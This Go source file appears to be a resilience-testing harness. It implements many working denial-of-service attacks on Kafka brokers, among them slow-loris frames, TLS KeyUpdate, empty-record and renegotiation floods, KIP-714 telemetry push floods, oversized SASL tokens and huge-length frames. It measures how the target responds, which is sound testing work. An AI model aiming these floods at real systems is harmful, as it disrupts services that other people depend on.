package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const (
	// openingAtOnce bounds the target's backlog, because a longer queue only repeats SYNs.
	openingAtOnce = 256
	trickle       = time.Second
	pairsAtOnce   = 50
	batchesAtOnce = 2
	longestAnswer = 1 << 16
)

// attackReport has the numbers of connections that the target accepted, and of failed attempts to connect. Gets and
// pushes are counted by error code, and connections that the target ended by the reason.
type attackReport struct {
	Seconds  float64        `json:"seconds"`
	Opened   int64          `json:"opened"`
	Failed   int64          `json:"failed"`
	Bytes    int64          `json:"bytes_sent"`
	Gets     map[uint16]int `json:"gets"`
	Pushes   map[uint16]int `json:"pushes"`
	Problems map[string]int `json:"problems"`
}

// attacker is shared by the connections of one attack.
type attacker struct {
	target                string
	dialer                net.Dialer
	until                 time.Time
	reopening             <-chan time.Time
	payload               []byte
	codec                 byte
	head                  int
	path                  string
	pace                  pacer
	opened, failed, bytes atomic.Int64
	opening               chan struct{}
	problems              map[string]int
	*counts
}

// kind attacks over one connection.
type kind func(a *attacker, connection net.Conn, index int) error

var attacks = map[string]struct {
	about string
	run   kind
}{
	"connections":     {"holds connections and sends nothing", (*attacker).hold},
	"slow-loris":      {"most of a PushTelemetry frame at once, then a byte a second", (*attacker).slowLoris},
	"tls-hello":       {"one byte of a TLS ClientHello", (*attacker).tlsHello},
	"pushes":          {"pushes, each of a new client instance: behind a get on every other connection, else without", (*attacker).push},
	"telemetry-flood": {"pipelined gets and pushes, each pair of a new client instance", (*attacker).flood},

	"key-updates":         {"TLS 1.3 KeyUpdates and nothing else", keyUpdates(false)},
	"key-update-requests": {"TLS 1.3 KeyUpdates, each of which asks for one back", keyUpdates(true)},
	"empty-records":       {"TLS 1.3 records without data, as many in a row as OpenSSL takes", emptyRecords(tls.VersionTLS13)},
	"empty-records-12":    {"the same with TLS 1.2", emptyRecords(tls.VersionTLS12)},
	"renegotiations":      {"TLS 1.2 ClientHellos within the connection", (*attacker).renegotiations},
	"swallowed-records":   {"a PushTelemetry over every limit in TLS records of 3 bytes", dataRecords(3, swallowedPush)},
	"request-records":     {"Produce requests in TLS records of 1 byte", dataRecords(1, endlessRequests)},
	"hello-records":       {"a ClientHello in TLS records of 1 byte", (*attacker).helloRecords},
	"handshakes":          {"whole TLS handshakes, one after the other", (*attacker).handshakes},
	"half-handshakes":     {"TLS ClientHellos without a reply to the answer", (*attacker).halfHandshakes},

	"unknown-keys":    {"256 KiB of requests with an unknown API key, on one connection after the other", (*attacker).unknownKeys},
	"small-requests":  {"ListOffsets requests of 18 bytes without a body", poured(repeated(shortRequest(listOffsets, 1), piece))},
	"headers-v3":      {"the same with request header v3 (KIP-1313)", (*attacker).headersV3},
	"least-requests":  {"requests of 12 bytes, the smallest possible", poured(repeated(leastRequest, piece))},
	"byte-segments":   {"Produce requests, each byte in a segment of its own", (*attacker).byteSegments},
	"api-versions":    {"ApiVersions requests, 16 in flight", asked(apiVersionsRequest(1, "attack", softwareName, softwareVersion))},
	"metadata":        {"Metadata requests, 16 in flight", asked(sealed(append(shortRequest(metadataKey, 1), 0, 0, 0, 0)))},
	"sasl-handshakes": {"SaslHandshake requests, 16 in flight", asked(saslHandshake("PLAIN"))},
	"sasl-tokens":     {"SaslHandshake and SaslAuthenticate with a token of 32 KiB, one after the other", (*attacker).saslTokens},
	"huge-lengths":    {"frames that announce 2 GiB", poured(append([]byte{0x7f, 0xff, 0xff, 0xff, 0, 72, 0, 0}, make([]byte, piece)...))},
	"garbage":         {"random bytes", (*attacker).garbage},
	"slow-readers":    {"requests for answers of 1 MiB that are never read", (*attacker).slowReaders},
	"proxy-headers":   {"PROXY headers, a byte in a segment", (*attacker).proxyHeaders},
	"tagged-bodies":   {"ApiVersions requests of 1 MiB of tagged fields", poured(sealed(tagged(bareAPIVersions(), tagsSent)))},
	"tagged-tokens":   {"SaslHandshake, and SaslAuthenticate with 1 MiB of tagged fields", (*attacker).taggedTokens},
	"altered-configs": {"IncrementalAlterConfigs of 128 KiB, 16 in flight", asked(alterConfigs(configsAltered))},
	"coordinators":    {"FindCoordinator for 16,000 keys, 16 in flight", asked(findCoordinators(coordinatorsAsked))},
	"tracked":         {"Produce requests whose responses may name brokers", poured(repeated(smallProduce(), piece))},
	"tracked-closed":  {"128 KiB of the same on one connection after the other, which the client closes", (*attacker).trackedClosed},
	"http":            {"HTTP requests for --path, pipelined", (*attacker).http},
	"steady-pushes":   {"a client instance on each connection, which pushes at its interval", (*attacker).steadyPush},
	"bridge-proofs":   {"wrong proofs of a bridge's token, one connection after the other", (*attacker).bridgeProofs},
	"single-pushes":   {"a connection for each push of a new client instance", (*attacker).singlePush},
}

// attack attacks from one source address for a while. It counts the target's reactions; none of them is an error.
func attack(flags *flag.FlagSet, arguments []string) error {
	var kinds []string
	for name, one := range attacks {
		kinds = append(kinds, name+" ("+one.about+")")
	}
	name := flags.String("kind", "", "one of: "+strings.Join(kinds, "; "))
	target := flags.String("target", "", "host:port to connect to")
	from := flags.String("from", "127.0.0.2", "source address")
	connections := flags.Int("connections", 8, "connections to have open; one that the target ends is opened again")
	seconds := flags.Float64("seconds", 5, "how long")
	reopen := flags.Int("reopen", 1000, "connections opened again in a second, at most")
	head := flags.Int("head-bytes", 1<<20, "slow-loris: metrics bytes that come at once")
	file := flags.String("payload", "", "pushes, telemetry-flood: file with the Metrics field's bytes, compressed already")
	codec := flags.String("codec", "none", "its compression: none, gzip, snappy, lz4, zstd")
	megabits := flags.Float64("megabits", 0, "the most Mbit/s of all connections together; 0: no limit")
	path := flags.String("path", "/metrics", "http: the path of the requests")
	_ = flags.Parse(arguments)
	number, known := codecNumbers[*codec]
	source := net.ParseIP(*from)
	if attacks[*name].run == nil || !known || source == nil || *connections < 1 || *seconds <= 0 || *reopen < 1 {
		return fmt.Errorf("--kind is one of %s; --codec none, gzip, snappy, lz4 or zstd; --from an IP address; the numbers more than 0", kinds)
	}
	a := &attacker{target: *target, codec: number, head: *head, path: *path, pace: pacer{rate: *megabits * 1e6 / 8},
		opening: make(chan struct{}, openingAtOnce), counts: newCounts(), problems: map[string]int{}}
	if *file != "" {
		var err error
		if a.payload, err = os.ReadFile(*file); err != nil {
			return fmt.Errorf("--payload: %w", err)
		}
	}
	started := time.Now()
	a.until = started.Add(time.Duration(*seconds * float64(time.Second)))
	a.dialer = net.Dialer{LocalAddr: &net.TCPAddr{IP: source}, Deadline: a.until}
	ticker := time.NewTicker(time.Second / time.Duration(*reopen))
	defer ticker.Stop()
	a.reopening = ticker.C
	var group sync.WaitGroup
	for i := 0; i < *connections; i++ {
		group.Add(1)
		go func(i int) {
			defer group.Done()
			a.again(attacks[*name].run, i)
		}(i)
	}
	group.Wait()
	return report(attackReport{time.Since(started).Seconds(), a.opened.Load(), a.failed.Load(), a.bytes.Load(),
		a.gets, a.pushes, a.problems})
}

// again keeps one connection open while the attack lasts.
func (a *attacker) again(do kind, index int) {
	for first := true; time.Now().Before(a.until); first = false {
		if !first {
			select {
			case <-a.reopening:
			case <-time.After(time.Until(a.until)):
				return
			}
		}
		a.opening <- struct{}{}
		connection, err := a.dialer.Dial("tcp4", a.target)
		<-a.opening
		if err != nil {
			a.failed.Add(1)
			continue
		}
		a.opened.Add(1)
		_ = connection.SetDeadline(a.until)
		err = do(a, lasting{connection, a}, index)
		_ = connection.(*net.TCPConn).SetLinger(0) // thousands in TIME_WAIT would use up the ports
		connection.Close()
		if !time.Now().Before(a.until) || err == errOver {
			return
		}
		a.mutex.Lock()
		a.problems[problem(err)]++
		a.mutex.Unlock()
	}
}

var errOver = errors.New("the attack is over")

// problem names an error without the addresses in it.
func problem(err error) string {
	if err == nil {
		return "nothing"
	}
	text := err.Error()
	return text[strings.LastIndex(text, ": ")+1:]
}

// drain reads until the target ends the connection, or the attack is over.
func drain(connection net.Conn) error {
	_, err := io.Copy(io.Discard, connection)
	if err == nil {
		err = io.EOF
	}
	return err
}

func (a *attacker) hold(connection net.Conn, _ int) error {
	_ = connection.SetDeadline(a.until)
	return drain(connection)
}

func (a *attacker) tlsHello(connection net.Conn, _ int) error {
	_ = connection.SetDeadline(a.until)
	if _, err := connection.Write([]byte{0x16}); err != nil {
		return err
	}
	return drain(connection)
}

func (a *attacker) slowLoris(connection net.Conn, _ int) error {
	frame := pushRequest(1, randomID(), 0, 0, make([]byte, 1<<20))
	sent := min(a.head, len(frame)-60)
	_ = connection.SetDeadline(a.until)
	if _, err := connection.Write(frame[:sent]); err != nil {
		return err
	}
	ended := make(chan error, 1)
	go func() { ended <- drain(connection) }()
	for ticker := time.NewTicker(trickle); ; sent++ {
		select {
		case err := <-ended:
			ticker.Stop()
			return err
		case <-ticker.C:
			if sent < len(frame) {
				_, _ = connection.Write(frame[sent : sent+1])
			}
		}
	}
}

// push sends each request at once after the answer before. A new client instance may push without a get, because it
// can compute its subscription id: only the hash of the client instance id differs (KIP-714).
func (a *attacker) push(connection net.Conn, index int) error {
	known, err := a.greet(connection)
	if err != nil {
		return err
	}
	var buffer []byte
	for correlation := uint32(3); ; correlation += 2 {
		id := randomID()
		subscription := known ^ hash(id)
		if index%2 == 0 {
			answer, err := exchange(connection, getRequest(correlation, [16]byte{}), buffer)
			if err != nil {
				return err
			}
			buffer = answer
			a.count(a.gets, answer)
			if got, err := parseSubscription(answer); err == nil && got.code == 0 {
				id, subscription = got.instance, got.id
			}
		}
		answer, err := exchange(connection, pushRequest(correlation+1, id, subscription, a.codec, a.payload), buffer)
		if err != nil {
			return err
		}
		buffer = answer
		a.count(a.pushes, answer)
	}
}

func (a *attacker) flood(connection net.Conn, _ int) error {
	known, err := a.greet(connection)
	if err != nil {
		return err
	}
	_ = connection.SetDeadline(a.until)
	room := make(chan struct{}, batchesAtOnce)
	ended := make(chan struct{})
	defer close(ended)
	go func() {
		for correlation := uint32(4); ; {
			var batch []byte
			for i := 0; i < pairsAtOnce; i++ {
				id := randomID()
				batch = append(batch, getRequest(correlation, id)...)
				batch = append(batch, pushRequest(correlation+1, id, known^hash(id), a.codec, a.payload)...)
				correlation += 2
			}
			select {
			case room <- struct{}{}:
			case <-ended:
				return
			}
			if _, err := connection.Write(batch); err != nil {
				return
			}
		}
	}()
	reader := bufio.NewReaderSize(connection, 64<<10)
	for answers := 1; ; answers++ {
		var length [4]byte
		if _, err := io.ReadFull(reader, length[:]); err != nil {
			return err
		}
		size := binary.BigEndian.Uint32(length[:])
		if size < 4 || size > longestAnswer {
			return fmt.Errorf("an answer of %d bytes", size)
		}
		answer := make([]byte, size)
		if _, err := io.ReadFull(reader, answer); err != nil {
			return err
		}
		if answer[3]&1 == 0 { // the correlation id of a get
			a.count(a.gets, answer)
		} else {
			a.count(a.pushes, answer)
		}
		if answers%(2*pairsAtOnce) == 0 {
			<-room
		}
	}
}

// greet sends a client's first requests, and returns the part of a subscription id that all instances share.
func (a *attacker) greet(connection net.Conn) (uint32, error) {
	if _, err := exchange(connection, apiVersionsRequest(1, "attack", softwareName, softwareVersion), nil); err != nil {
		return 0, err
	}
	answer, err := exchange(connection, getRequest(2, [16]byte{}), nil)
	if err != nil {
		return 0, err
	}
	a.count(a.gets, answer)
	subscription, err := parseSubscription(answer)
	if err != nil {
		return 0, nil // a fake broker's filler
	}
	return subscription.id ^ hash(subscription.instance), nil
}

func randomID() (id [16]byte) {
	binary.BigEndian.PutUint64(id[:], rand.Uint64())
	binary.BigEndian.PutUint64(id[8:], rand.Uint64())
	return id
}

// hash is java.util.UUID's, which KIP-714's subscription ids contain.
func hash(id [16]byte) uint32 {
	halves := binary.BigEndian.Uint64(id[:]) ^ binary.BigEndian.Uint64(id[8:])
	return uint32(halves>>32) ^ uint32(halves)
}
